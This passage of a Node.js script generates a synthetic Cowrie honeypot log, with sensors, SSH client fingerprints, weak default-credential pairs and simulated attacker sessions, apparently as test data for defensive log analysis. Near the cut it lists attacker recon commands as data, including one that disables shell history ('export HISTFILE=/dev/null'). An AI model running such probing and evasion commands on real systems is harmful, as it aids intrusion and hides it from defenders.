#!/usr/bin/env node
/**
 * Generates the bundled sample log `examples/sample/cowrie.json`: a synthetic, realistic
 * Cowrie v2.9-era NDJSON log (compact separators, Cowrie's key order, `uuid` and `protocol`
 * on every event, 6-digit `Z` timestamps, 12-hex session ids) from three sensors, plus
 * `ground-truth.json` and `README.md` describing what was planted in it.
 *
 * Deterministic: a seeded mulberry32 PRNG drives every choice (no Math.random, no clock),
 * so two runs with the same arguments give byte-identical output.
 *
 *   node scripts/generate-sample-log.mjs [--out path] [--days N] [--seed S] [--docs-dir dir]
 *
 * --out       log file to write (default examples/sample/cowrie.json)
 * --days      length of the capture window in days (default 3); background volume scales with it
 * --seed      PRNG seed, an integer or any string (default 20251201)
 * --docs-dir  where ground-truth.json and README.md go (default: the directory of --out)
 *
 * Everything in the output is synthetic: addresses come from documentation and benchmarking
 * ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 198.18.0.0/15, 2001:db8::/32) or,
 * for the thinly spread campaign that needs many distinct /16s, are drawn from the PRNG;
 * domains use the .example / .test / .invalid TLDs; hashes are SHA-256 of made-up bytes.
 * Only Node built-ins are used.
 */
import { createHash, createPublicKey } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');

// ---------------------------------------------------------------------------------------------
// Arguments
// ---------------------------------------------------------------------------------------------
const { values: argv } = parseArgs({
  options: {
    out: { type: 'string' },
    days: { type: 'string' },
    seed: { type: 'string' },
    'docs-dir': { type: 'string' },
    help: { type: 'boolean', short: 'h' },
  },
});
if (argv.help) {
  process.stdout.write(
    'usage: node scripts/generate-sample-log.mjs [--out path] [--days N] [--seed S] [--docs-dir dir]\n',
  );
  process.exit(0);
}
const OUT = path.resolve(argv.out ?? path.join(ROOT, 'examples/sample/cowrie.json'));
const DOCS_DIR = path.resolve(argv['docs-dir'] ?? path.dirname(OUT));
const DAYS = Number(argv.days ?? 3);
if (!Number.isInteger(DAYS) || DAYS < 1 || DAYS > 60) {
  process.stderr.write(`--days must be an integer from 1 to 60 (got ${argv.days})\n`);
  process.exit(2);
}
const SEED_TEXT = argv.seed ?? '20251201';
const SEED = /^\d+$/.test(SEED_TEXT) ? Number(BigInt(SEED_TEXT) % 4294967296n) : fnv1a(SEED_TEXT);

/** FNV-1a 32-bit hash, used to turn a string seed into a number. */
function fnv1a(text) {
  let h = 0x811c9dc5;
  for (const b of Buffer.from(text, 'utf8')) {
    h ^= b;
    h = Math.imul(h, 0x01000193) >>> 0;
  }
  return h >>> 0;
}

// ---------------------------------------------------------------------------------------------
// PRNG (mulberry32) and helpers
// ---------------------------------------------------------------------------------------------
class Rng {
  constructor(seed) {
    this.state = seed >>> 0;
  }
  next() {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  /** Integer in [lo, hi]. */
  int(lo, hi) {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }
  float(lo, hi) {
    return lo + this.next() * (hi - lo);
  }
  chance(p) {
    return this.next() < p;
  }
  pick(list) {
    return list[Math.floor(this.next() * list.length)];
  }
  /** pairs: [[value, weight], ...] */
  weighted(pairs) {
    const total = pairs.reduce((s, [, w]) => s + w, 0);
    let r = this.next() * total;
    for (const [v, w] of pairs) {
      r -= w;
      if (r < 0) return v;
    }
    return pairs[pairs.length - 1][0];
  }
  hex(n) {
    let s = '';
    for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(this.next() * 16)];
    return s;
  }
  shuffle(list) {
    const a = [...list];
    for (let i = a.length - 1; i > 0; i--) {
      const j = Math.floor(this.next() * (i + 1));
      [a[i], a[j]] = [a[j], a[i]];
    }
    return a;
  }
}
const rng = new Rng(SEED);

const sha256 = (data) => createHash('sha256').update(data).digest('hex');
const md5 = (data) => createHash('md5').update(data).digest('hex');

// ---------------------------------------------------------------------------------------------
// Serialisation exactly as Cowrie's jsonlog writes it since 1.6.0:
// json.dumps(obj, separators=(",", ":")) with ensure_ascii=True.
// ---------------------------------------------------------------------------------------------
function pyStr(s) {
  let out = '"';
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    if (c === 0x22) out += '\\"';
    else if (c === 0x5c) out += '\\\\';
    else if (c === 0x0a) out += '\\n';
    else if (c === 0x0d) out += '\\r';
    else if (c === 0x09) out += '\\t';
    else if (c === 0x08) out += '\\b';
    else if (c === 0x0c) out += '\\f';
    else if (c < 0x20 || c > 0x7e) out += '\\u' + c.toString(16).padStart(4, '0');
    else out += s[i];
  }
  return out + '"';
}
function dumps(v) {
  if (v === null) return 'null';
  if (typeof v === 'string') return pyStr(v);
  if (typeof v === 'number') {
    if (!Number.isFinite(v)) throw new Error('non-finite number');
    return String(v);
  }
  if (typeof v === 'boolean') return v ? 'true' : 'false';
  if (Array.isArray(v)) return '[' + v.map(dumps).join(',') + ']';
  return '{' + Object.entries(v).map(([k, x]) => pyStr(k) + ':' + dumps(x)).join(',') + '}';
}

/** Python 3 `repr(bytes)`, as Cowrie logs direct-tcpip `data`. */
function pyBytesRepr(buf) {
  const quote = buf.includes(0x27) && !buf.includes(0x22) ? '"' : "'";
  let s = 'b' + quote;
  for (const b of buf) {
    if (b === 0x5c) s += '\\\\';
    else if (b === quote.charCodeAt(0)) s += '\\' + quote;
    else if (b === 0x09) s += '\\t';
    else if (b === 0x0a) s += '\\n';
    else if (b === 0x0d) s += '\\r';
    else if (b < 0x20 || b >= 0x7f) s += '\\x' + b.toString(16).padStart(2, '0');
    else s += String.fromCharCode(b);
  }
  return s + quote;
}

// ---------------------------------------------------------------------------------------------
// Time
// ---------------------------------------------------------------------------------------------
const US = 1_000_000;
const DAY_US = 86_400 * US;
const START_US = Date.UTC(2025, 11, 1) * 1000; // 2025-12-01T00:00:00Z (Cowrie v2.9.x era)
const END_US = START_US + DAYS * DAY_US;
/** Microseconds since the epoch -> `YYYY-MM-DDTHH:MM:SS.ffffffZ`. */
function fmtTs(us) {
  const ms = Math.floor(us / 1000);
  return new Date(ms).toISOString().slice(0, 23) + String(us % 1000).padStart(3, '0') + 'Z';
}
/** A session start somewhere in the window (leaving room for the session to finish). */
const randomStart = (from = START_US, to = END_US - 20 * 60 * US) => from + Math.floor(rng.next() * (to - from));

// ---------------------------------------------------------------------------------------------
// The botnet's SSH key: a real 2048-bit RSA public key in OpenSSH wire format
// (string "ssh-rsa", mpint e, mpint n), generated once with
// crypto.generateKeyPairSync('rsa', { modulusLength: 2048 }) and embedded here so the output is
// deterministic. The private half was never stored.
// ---------------------------------------------------------------------------------------------
const BOTNET_KEY_B64 =
  'AAAAB3NzaC1yc2EAAAADAQABAAABAQCpKHWk/ojH0x9N8eHwe94NjyB/83/eRy5ioDp17khtmnLFFW+pmOvDdXk1NoWhe3ThQM2gTmiw4HvDhknCiZ3V7led0dvdD+UVhLixjIfh6BwTAF8oqrwoqTLcY7bA0/AATN6VMnDi7ZPRGz8GMSOipywi4wIMWtibSRrWJCnemNAg2IhpbFzTYsJekq6WqPD5eY/HGd//RCAmfTN5p+ie7CN1stPDW/3v1zvE2aB0GE0BzMcO/uZjzixXsxYD/pHh1zZJ6rOGCMn6vz85EzHQPBSK46dqfbKA4XmehALYKM8RkrHGORl9KPtWis4AxqCAqEOCLNsnueKzHdkocnuj';
const BOTNET_KEY_COMMENT = 'bot@c2.botfarm.example';

/** Decode the wire format and let node:crypto confirm it is a usable RSA public key. */
function checkSshRsaBlob(b64) {
  const buf = Buffer.from(b64, 'base64');
  let off = 0;
  const next = () => {
    const len = buf.readUInt32BE(off);
    const v = buf.subarray(off + 4, off + 4 + len);
    off += 4 + len;
    return v;
  };
  const type = next().toString('latin1');
  const e = next();
  const n = next();
  if (type !== 'ssh-rsa' || off !== buf.length) throw new Error('bad ssh-rsa blob');
  const strip = (b) => (b[0] === 0 ? b.subarray(1) : b);
  const key = createPublicKey({
    key: { kty: 'RSA', n: strip(n).toString('base64url'), e: strip(e).toString('base64url') },
    format: 'jwk',
  });
  const bits = key.asymmetricKeyDetails?.modulusLength;
  if (bits !== 2048) throw new Error(`unexpected modulus length ${bits}`);
  const md5fp = md5(buf).match(/../g).join(':');
  const sha256fp = 'SHA256:' + createHash('sha256').update(buf).digest('base64').replace(/=+$/, '');
  return { bits, md5: md5fp, sha256: sha256fp };
}
const BOTNET_KEY_INFO = checkSshRsaBlob(BOTNET_KEY_B64);

/** A syntactically valid ssh-ed25519 public key blob from deterministic bytes (long-tail pubkey attempt). */
function fakeEd25519(seedText) {
  const str = (b) => {
    const l = Buffer.alloc(4);
    l.writeUInt32BE(b.length);
    return Buffer.concat([l, b]);
  };
  const blob = Buffer.concat([
    str(Buffer.from('ssh-ed25519')),
    str(createHash('sha256').update(seedText).digest()),
  ]);
  return { key: 'ssh-ed25519 ' + blob.toString('base64'), fingerprint: md5(blob).match(/../g).join(':') };
}

// ---------------------------------------------------------------------------------------------
// SSH client profiles. hassh = md5("kex;enc;mac;comp"), computed, as Cowrie does.
// ---------------------------------------------------------------------------------------------
function profile(name, versions, kex, key, enc, mac, comp) {
  const hasshAlgorithms = [kex, enc, mac, comp].map((l) => l.join(',')).join(';');
  return { name, versions, kex, key, enc, mac, comp, hasshAlgorithms, hassh: md5(hasshAlgorithms) };
}
const PROFILES = {
  go: profile(
    'go',
    ['SSH-2.0-Go'],
    ['curve25519-sha256', 'curve25519-sha256@libssh.org', 'ecdh-sha2-nistp256', 'ecdh-sha2-nistp384', 'ecdh-sha2-nistp521', 'diffie-hellman-group14-sha256', 'diffie-hellman-group14-sha1', 'ext-info-c'],
    ['rsa-sha2-256', 'rsa-sha2-512', 'ssh-rsa', 'ecdsa-sha2-nistp256', 'ecdsa-sha2-nistp384', 'ecdsa-sha2-nistp521', 'ssh-ed25519'],
    ['aes128-gcm@openssh.com', 'aes256-gcm@openssh.com', 'chacha20-poly1305@openssh.com', 'aes128-ctr', 'aes192-ctr', 'aes256-ctr'],
    ['hmac-sha2-256-etm@openssh.com', 'hmac-sha2-512-etm@openssh.com', 'hmac-sha2-256', 'hmac-sha2-512', 'hmac-sha1', 'hmac-sha1-96'],
    ['none'],
  ),
  zgrab: profile(
    'zgrab',
    ['SSH-2.0-ZGrab ZGrab SSH Survey'],
    ['curve25519-sha256@libssh.org', 'ecdh-sha2-nistp256', 'ecdh-sha2-nistp384', 'ecdh-sha2-nistp521', 'diffie-hellman-group14-sha1', 'diffie-hellman-group1-sha1'],
    ['ssh-rsa', 'ssh-dss', 'ecdsa-sha2-nistp256', 'ssh-ed25519'],
    ['aes128-ctr', 'aes192-ctr', 'aes256-ctr', 'aes128-gcm@openssh.com', 'arcfour256', 'arcfour128'],
    ['hmac-sha2-256', 'hmac-sha1', 'hmac-sha1-96'],
    ['none'],
  ),
  libssh: profile(
    'libssh',
    ['SSH-2.0-libssh_0.9.6', 'SSH-2.0-libssh_0.10.6'],
    ['curve25519-sha256', 'curve25519-sha256@libssh.org', 'ecdh-sha2-nistp256', 'ecdh-sha2-nistp384', 'ecdh-sha2-nistp521', 'diffie-hellman-group18-sha512', 'diffie-hellman-group16-sha512', 'diffie-hellman-group-exchange-sha256', 'diffie-hellman-group14-sha256', 'diffie-hellman-group14-sha1', 'ext-info-c'],
    ['ssh-ed25519', 'ecdsa-sha2-nistp521', 'ecdsa-sha2-nistp384', 'ecdsa-sha2-nistp256', 'rsa-sha2-512', 'rsa-sha2-256', 'ssh-rsa'],
    ['chacha20-poly1305@openssh.com', 'aes256-gcm@openssh.com', 'aes128-gcm@openssh.com', 'aes256-ctr', 'aes192-ctr', 'aes128-ctr', 'aes256-cbc', 'aes192-cbc', 'aes128-cbc'],
    ['hmac-sha2-256-etm@openssh.com', 'hmac-sha2-512-etm@openssh.com', 'hmac-sha1-etm@openssh.com', 'hmac-sha2-256', 'hmac-sha2-512', 'hmac-sha1'],
    ['none', 'zlib@openssh.com'],
  ),
  paramiko: profile(
    'paramiko',
    ['SSH-2.0-paramiko_3.4.0', 'SSH-2.0-paramiko_2.12.0'],
    ['curve25519-sha256@libssh.org', 'ecdh-sha2-nistp256', 'ecdh-sha2-nistp384', 'ecdh-sha2-nistp521', 'diffie-hellman-group16-sha512', 'diffie-hellman-group-exchange-sha256', 'diffie-hellman-group14-sha256', 'diffie-hellman-group-exchange-sha1', 'diffie-hellman-group14-sha1', 'diffie-hellman-group1-sha1'],
    ['ssh-ed25519', 'ecdsa-sha2-nistp256', 'ecdsa-sha2-nistp384', 'ecdsa-sha2-nistp521', 'rsa-sha2-512', 'rsa-sha2-256', 'ssh-rsa', 'ssh-dss'],
    ['aes128-ctr', 'aes192-ctr', 'aes256-ctr', 'aes128-cbc', 'aes192-cbc', 'aes256-cbc', '3des-cbc'],
    ['hmac-sha2-256', 'hmac-sha2-512', 'hmac-sha2-256-etm@openssh.com', 'hmac-sha2-512-etm@openssh.com', 'hmac-sha1', 'hmac-md5', 'hmac-sha1-96', 'hmac-md5-96'],
    ['none'],
  ),
  openssh: profile(
    'openssh',
    ['SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10', 'SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5', 'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3'],
    ['curve25519-sha256', 'curve25519-sha256@libssh.org', 'ecdh-sha2-nistp256', 'ecdh-sha2-nistp384', 'ecdh-sha2-nistp521', 'sntrup761x25519-sha512@openssh.com', 'diffie-hellman-group-exchange-sha256', 'diffie-hellman-group16-sha512', 'diffie-hellman-group18-sha512', 'diffie-hellman-group14-sha256', 'ext-info-c', 'kex-strict-c-v00@openssh.com'],
    ['ssh-ed25519', 'ecdsa-sha2-nistp256', 'ecdsa-sha2-nistp384', 'ecdsa-sha2-nistp521', 'sk-ssh-ed25519@openssh.com', 'sk-ecdsa-sha2-nistp256@openssh.com', 'rsa-sha2-512', 'rsa-sha2-256'],
    ['chacha20-poly1305@openssh.com', 'aes128-ctr', 'aes192-ctr', 'aes256-ctr', 'aes128-gcm@openssh.com', 'aes256-gcm@openssh.com'],
    ['umac-64-etm@openssh.com', 'umac-128-etm@openssh.com', 'hmac-sha2-256-etm@openssh.com', 'hmac-sha2-512-etm@openssh.com', 'hmac-sha1-etm@openssh.com', 'umac-64@openssh.com', 'umac-128@openssh.com', 'hmac-sha2-256', 'hmac-sha2-512', 'hmac-sha1'],
    ['none', 'zlib@openssh.com'],
  ),
  putty: profile(
    'putty',
    ['SSH-2.0-PuTTY_Release_0.81'],
    ['curve25519-sha256', 'curve25519-sha256@libssh.org', 'ecdh-sha2-nistp256', 'ecdh-sha2-nistp384', 'ecdh-sha2-nistp521', 'diffie-hellman-group-exchange-sha256', 'diffie-hellman-group18-sha512', 'diffie-hellman-group16-sha512', 'diffie-hellman-group14-sha256', 'diffie-hellman-group14-sha1', 'rsa2048-sha256', 'ext-info-c'],
    ['ssh-ed25519', 'ecdsa-sha2-nistp256', 'ecdsa-sha2-nistp384', 'ecdsa-sha2-nistp521', 'rsa-sha2-512', 'rsa-sha2-256', 'ssh-rsa'],
    ['aes256-gcm@openssh.com', 'aes256-ctr', 'aes256-cbc', 'aes192-ctr', 'aes192-cbc', 'aes128-gcm@openssh.com', 'aes128-ctr', 'aes128-cbc', 'chacha20-poly1305@openssh.com', '3des-ctr', '3des-cbc'],
    ['hmac-sha2-256', 'hmac-sha1', 'hmac-sha1-96', 'hmac-sha2-256-etm@openssh.com', 'hmac-sha1-etm@openssh.com'],
    ['none', 'zlib', 'zlib@openssh.com'],
  ),
  // Reserved for the thinly spread campaign: no other session uses this client.
  libssh2: profile(
    'libssh2',
    ['SSH-2.0-libssh2_1.10.0'],
    ['ecdh-sha2-nistp256', 'ecdh-sha2-nistp384', 'ecdh-sha2-nistp521', 'diffie-hellman-group-exchange-sha256', 'diffie-hellman-group16-sha512', 'diffie-hellman-group18-sha512', 'diffie-hellman-group14-sha256', 'diffie-hellman-group14-sha1', 'diffie-hellman-group1-sha1', 'diffie-hellman-group-exchange-sha1'],
    ['ecdsa-sha2-nistp256', 'ecdsa-sha2-nistp384', 'ecdsa-sha2-nistp521', 'ssh-ed25519', 'rsa-sha2-512', 'rsa-sha2-256', 'ssh-rsa', 'ssh-dss'],
    ['aes128-ctr', 'aes192-ctr', 'aes256-ctr', 'aes256-cbc', 'rijndael-cbc@lysator.liu.se', 'aes192-cbc', 'aes128-cbc', 'blowfish-cbc', 'arcfour128', 'arcfour', 'cast128-cbc', '3des-cbc'],
    ['hmac-sha2-256', 'hmac-sha2-512', 'hmac-sha1', 'hmac-sha1-96', 'hmac-md5', 'hmac-md5-96', 'hmac-ripemd160', 'hmac-ripemd160@openssh.com'],
    ['none'],
  ),
};
/** Client versions of scanners that never reach KEXINIT. */
const ODD_VERSIONS = ['GET / HTTP/1.1', '', 'SSH-2.0-', 'SSH-1.5-Nmap-SSH1-Hostkey', 'SSH-2.0-Nmap-SSH2-Hostkey'];

// ---------------------------------------------------------------------------------------------
// Sensors
// ---------------------------------------------------------------------------------------------
const uuidLike = () => `${rng.hex(8)}-${rng.hex(4)}-11f0-${rng.pick(['8', '9', 'a', 'b'])}${rng.hex(3)}-${rng.hex(12)}`;
const SENSORS = [
  { name: 'hp-fra-01', uuid: uuidLike(), dstIp: '172.18.0.2', dstIp6: '2001:db8:100::2', weight: 40 },
  { name: 'hp-nyc-02', uuid: uuidLike(), dstIp: '10.20.0.5', dstIp6: '2001:db8:200::5', weight: 35 },
  { name: 'hp-sin-03', uuid: uuidLike(), dstIp: '172.31.14.9', dstIp6: '2001:db8:300::9', weight: 25 },
];
const pickSensor = () => rng.weighted(SENSORS.map((s) => [s, s.weight]));

// ---------------------------------------------------------------------------------------------
// Addresses
// ---------------------------------------------------------------------------------------------
const usedIps = new Set();
const reserved16 = new Set(); // /16s owned by the campaign: no other source uses them
const slash16 = (ip) => ip.split('.').slice(0, 2).join('.');
/** An address from the documentation / benchmarking ranges. */
function docIp() {
  for (;;) {
    const r = rng.next();
    const host = rng.int(1, 254);
    let ip;
    if (r < 0.12) ip = `192.0.2.${host}`;
    else if (r < 0.24) ip = `198.51.100.${host}`;
    else if (r < 0.36) ip = `203.0.113.${host}`;
    else ip = `198.${rng.int(18, 19)}.${rng.int(0, 255)}.${host}`;
    if (!usedIps.has(ip)) {
      usedIps.add(ip);
      return ip;
    }
  }
}
/** First octets that look like public unicast space (no private, CGNAT, loopback, multicast, doc ranges). */
const PUBLIC_FIRST = [
  5, 23, 27, 31, 36, 37, 42, 43, 45, 46, 49, 58, 59, 60, 61, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85, 87, 88, 89,
  91, 92, 93, 94, 95, 101, 103, 106, 109, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123,
  124, 125, 139, 141, 146, 150, 151, 154, 159, 164, 167, 170, 171, 175, 176, 177, 178, 179, 180, 181, 182, 183,
  185, 186, 187, 188, 189, 190, 191, 193, 194, 195, 196, 197, 200, 201, 202, 210, 211, 212, 213, 217, 218, 219,
  220, 221, 222,
];
/** A PRNG-drawn address in public-looking space (synthetic; may belong to anyone). */
function publicIp({ new16 = false } = {}) {
  for (;;) {
    const a = rng.pick(PUBLIC_FIRST);
    const b = rng.int(0, 255);
    const ip = `${a}.${b}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
    const s16 = `${a}.${b}`;
    if (usedIps.has(ip)) continue;
    if (new16) {
      if (reserved16.has(s16) || [...usedIps].some((u) => slash16(u) === s16)) continue;
      reserved16.add(s16);
    } else if (reserved16.has(s16)) continue;
    usedIps.add(ip);
    return ip;
  }
}
const anyIp = () => (rng.chance(0.5) ? docIp() : publicIp());

// ---------------------------------------------------------------------------------------------
// Sessions and events
// ---------------------------------------------------------------------------------------------
const events = []; // { t, seq, obj }
let seq = 0;
const usedSessionIds = new Set();
const sessionsIndex = []; // every session: { sensor, session, srcIp, protocol, kind, start }
const downloadsSeen = new Map(); // sensor -> Set(sha) : Cowrie's `duplicate` is per downloads directory
const ttySeen = new Map();

function newSessionId() {
  for (;;) {
    const id = rng.hex(12);
    if (!usedSessionIds.has(id)) {
      usedSessionIds.add(id);
      return id;
    }
  }
}
function seenBefore(map, sensor, sha) {
  if (!map.has(sensor)) map.set(sensor, new Set());
  const set = map.get(sensor);
  const dup = set.has(sha);
  set.add(sha);
  return dup;
}

class Session {
  constructor({ sensor, srcIp, protocol = 'ssh', start, kind, forceId }) {
    this.sensor = sensor;
    this.id = forceId ?? newSessionId();
    this.srcIp = srcIp;
    this.protocol = protocol;
    this.srcPort = rng.int(1025, 65535);
    this.t = start;
    this.start = start;
    this.kind = kind;
    this.shellStart = null;
    this.ttyLines = [];
    this.dstIp = srcIp.includes(':')
      ? srcIp.startsWith('::ffff:')
        ? `::ffff:${sensor.dstIp}`
        : sensor.dstIp6
      : sensor.dstIp;
    this.dstPort = protocol === 'telnet' ? 2223 : 2222;
    sessionsIndex.push({ sensor: sensor.name, session: this.id, srcIp, protocol, kind, start: fmtTs(start) });
  }
  /** Advance the session clock by a random number of milliseconds. */
  wait(minMs, maxMs) {
    this.t += Math.round(rng.float(minMs, maxMs) * 1000);
    return this;
  }
  push(obj) {
    events.push({ t: this.t, seq: seq++, obj });
  }
  /** Generic event in v2.8.1+ order: eventid, fields, message, sensor, uuid, timestamp, src_ip, session, protocol. */
  ev(eventid, fields, message, { messageAfterTimestamp = false } = {}) {
    const o = { eventid, ...fields };
    if (message !== undefined && !messageAfterTimestamp) o.message = message;
    o.sensor = this.sensor.name;
    o.uuid = this.sensor.uuid;
    o.timestamp = fmtTs(this.t);
    if (message !== undefined && messageAfterTimestamp) o.message = message;
    o.src_ip = this.srcIp;
    o.session = this.id;
    o.protocol = this.protocol;
    this.push(o);
    return this;
  }
  connect() {
    this.push({
      eventid: 'cowrie.session.connect',
      src_ip: this.srcIp,
      src_port: this.srcPort,
      dst_ip: this.dstIp,
      dst_port: this.dstPort,
      session: this.id,
      protocol: this.protocol,
      message: `New connection: ${this.srcIp}:${this.srcPort} (${this.dstIp}:${this.dstPort}) [session: ${this.id}]`,
      sensor: this.sensor.name,
      uuid: this.sensor.uuid,
      timestamp: fmtTs(this.t),
    });
    return this;
  }
  version(v) {
    this.wait(1, 250);
    return this.ev('cowrie.client.version', { version: v }, `Remote SSH version: ${v}`);
  }
  kex(p) {
    this.wait(1, 120);
    return this.ev(
      'cowrie.client.kex',
      {
        hassh: p.hassh,
        hasshAlgorithms: p.hasshAlgorithms,
        kexAlgs: p.kex,
        keyAlgs: p.key,
        encCS: p.enc,
        macCS: p.mac,
        compCS: p.comp,
        langCS: [''],
      },
      `SSH client hassh fingerprint: ${p.hassh}`,
    );
  }
  /** connect + version + kex for an SSH client profile. */
  handshake(p, version = rng.pick(p.versions)) {
    this.connect();
    this.version(version);
    this.kex(p);
    return this;
  }
  login(username, password, ok, gap = [300, 2500]) {
    this.wait(...gap);
    return this.ev(
      ok ? 'cowrie.login.success' : 'cowrie.login.failed',
      { username, password },
      `login attempt [${username}/${password}] ${ok ? 'succeeded' : 'failed'}`,
    );
  }
  fingerprintAttempt(username, { key, fingerprint }) {
    this.wait(100, 600);
    return this.ev(
      'cowrie.client.fingerprint',
      { username, fingerprint, key, type: key.split(' ')[0] },
      `public key attempt for user ${username} of type ${key.split(' ')[0]} with fingerprint ${fingerprint}`,
    );
  }
  size(w, h) {
    this.wait(20, 200);
    return this.ev('cowrie.client.size', { width: w, height: h }, `Terminal Size: ${w} ${h}`);
  }
  env(name, value) {
    this.wait(1, 20);
    return this.ev('cowrie.client.var', { name, value }, `request_env: ${name}=${value}`);
  }
  params(arch = 'linux-x64-lsb') {
    this.wait(1, 30);
    this.shellStart = this.t;
    return this.ev('cowrie.session.params', { arch }, []);
  }
  /** command.input, then command.failed for each unknown sub-command. */
  cmd(input, { failed = [], gap = [150, 3000] } = {}) {
    this.wait(...gap);
    this.ttyLines.push(input);
    this.ev('cowrie.command.input', { input }, `CMD: ${input}`);
    for (const f of failed) {
      this.wait(0.3, 3);
      this.ev('cowrie.command.failed', { input: f }, `Command not found: ${f}`);
    }
    return this;
  }
  download({ url, payload, destfile }) {
    this.wait(200, 2500);
    const sha = sha256(payload);
    const outfile = `var/lib/cowrie/downloads/${sha}`;
    const duplicate = false; // set in time order after sorting (see markDuplicate)
    if (url !== undefined) {
      this.ev(
        'cowrie.session.file_download',
        { url, outfile, shasum: sha, destfile, duplicate },
        `Downloaded URL (${url}) with SHA-256 ${sha} to ${outfile}`,
      );
    } else {
      this.ev(
        'cowrie.session.file_download',
        { duplicate, outfile, shasum: sha, destfile },
        `Saved redir contents with SHA-256 ${sha} to ${outfile}`,
      );
    }
    return this.markDuplicate(downloadsSeen, sha);
  }
  downloadFailed(url) {
    this.wait(1500, 9000);
    return this.ev(
      'cowrie.session.file_download.failed',
      { url },
      `Attempt to download file(s) from URL (${url}) failed`,
      { messageAfterTimestamp: true },
    );
  }
  upload(filename, payload) {
    this.wait(300, 2000);
    const sha = sha256(payload);
    const outfile = `var/lib/cowrie/downloads/${sha}`;
    return this.ev(
      'cowrie.session.file_upload',
      { filename, outfile, shasum: sha },
      `SFTP Uploaded file "${filename}" to ${outfile}`,
    );
  }
  tcpipRequest(dstIp, dstPort, claimedIp, claimedPort) {
    this.wait(50, 1500);
    return this.ev(
      'cowrie.direct-tcpip.request',
      { dst_ip: dstIp, dst_port: dstPort, src_ip: this.srcIp, src_port: claimedPort },
      `direct-tcp connection request to ${dstIp}:${dstPort} from ${claimedIp}:${claimedPort}`,
    );
  }
  tcpipData(dstIp, dstPort, payload, id = 0) {
    this.wait(5, 400);
    const data = pyBytesRepr(payload);
    return this.ev(
      'cowrie.direct-tcpip.data',
      { dst_ip: dstIp, dst_port: dstPort, data, id },
      `discarded direct-tcp forward request ${id} to ${dstIp}:${dstPort} with data ${data}`,
    );
  }
  ja4(kind, value, dstIp, dstPort) {
    this.wait(1, 20);
    return this.ev(
      `cowrie.direct-tcpip.${kind}`,
      { [kind]: value, dst_ip: dstIp, dst_port: dstPort },
      `direct-tcp ${kind.toUpperCase()} fingerprint ${value} for ${dstIp}:${dstPort}`,
    );
  }
  /** log.closed of the TTY recorder (SSH: duration string since v2.7; telnet: float). */
  ttyClosed(contentKey) {
    if (this.shellStart === null) return this;
    this.wait(50, 1500);
    const content = Buffer.from(contentKey ?? `${this.id}\n${this.ttyLines.join('\n')}\n`);
    const sha = sha256(content);
    const ttylog = `var/lib/cowrie/tty/${sha}`;
    const secs = (this.t - this.shellStart) / US;
    const duration = this.protocol === 'ssh' ? secs.toFixed(1) : pyFloat(secs);
    const shown = this.protocol === 'ssh' ? duration : String(Math.trunc(secs));
    this.ev(
      'cowrie.log.closed',
      {
        ttylog,
        size: content.length * 3 + 40,
        shasum: sha,
        duplicate: false,
        duration,
      },
      `Closing TTY Log: ${ttylog} after ${shown} seconds`,
    );
    return this.markDuplicate(ttySeen, sha);
  }
  /** Cowrie's `duplicate` means "already in this sensor's store": decided in time order after sorting. */
  markDuplicate(map, sha) {
    events[events.length - 1].dup = { map, sha };
    return this;
  }
  close(minMs = 30, maxMs = 1500) {
    this.wait(minMs, maxMs);
    const secs = (this.t - this.start) / US;
    if (this.protocol === 'ssh') {
      const d = secs.toFixed(1);
      return this.ev('cowrie.session.closed', { duration: d }, `Connection lost after ${d} seconds`);
    }
    return this.ev(
      'cowrie.session.closed',
      { duration: pyFloat(secs) },
      `Connection lost after ${Math.trunc(secs)} seconds`,
    );
  }
}
/** A float with full (Python repr-like) precision that never prints as an integer. */
function pyFloat(x) {
  const v = x + rng.next() * 1e-6;
  return Number.isInteger(v) ? v + 0.0001220703125 : v;
}

// ---------------------------------------------------------------------------------------------
// Vocabulary (all made up or generic dictionary words)
// ---------------------------------------------------------------------------------------------
const COMMON_CREDS = [
  ['root', '123456'], ['root', 'password'], ['root', 'root'], ['root', ''], ['root', 'admin'], ['root', '12345678'],
  ['root', 'toor'], ['root', 'qwerty'], ['root', '1qaz2wsx'], ['root', 'P@ssw0rd'], ['root', 'changeme'],
  ['root', '111111'], ['root', 'abc123'], ['admin', 'admin'], ['admin', '1234'], ['admin', 'password'],
  ['admin', 'admin123'], ['ubnt', 'ubnt'], ['user', 'user'], ['user', '123456'], ['test', 'test'], ['test', '123'],
  ['oracle', 'oracle'], ['pi', 'raspberry'], ['guest', 'guest'], ['support', 'support'], ['ftpuser', 'ftpuser'],
  ['postgres', 'postgres'], ['git', 'git'], ['ubuntu', 'ubuntu'], ['hadoop', 'hadoop'], ['deploy', 'deploy123'],
  ['nagios', 'nagios'], ['mysql', 'mysql'], ['centos', 'centos'], ['', 'root'], ['debian', 'debian'],
];
/** Cowrie's default userdb lets root in with anything but a few passwords; keep a similar feel. */
const rootAccepts = (u, p) => u === 'root' && !['root', '123456', ''].includes(p);

const RECON_SCRIPTS = [
  { cmds: ['uname -a', 'nproc'] },
  { cmds: ['echo ok'] },
  { cmds: ['cat /proc/uptime', 'uname -s -m'] },
  { cmds: ['export HISTFILE=/dev/null; uname -a; id', 'free -m', 'ls -la /tmp'] },
  { cmds: ['uname -s -v -n -r -m'] },
  { cmds: ['cat /etc/os-release', 'df -h'] },
  { cmds: ['ps aux | grep -v grep | grep -c miner', 'lscpu | head -n 20'], failed: [] },
  { cmds: ['which docker kubectl'], failed: [] },
  { cmds: ['ifconfig || ip a', 'netstat -plnt'], failed: [[], ['netstat -plnt']] },
  { cmds: ['top -bn1 | head -n 5', 'crontab -l'] },
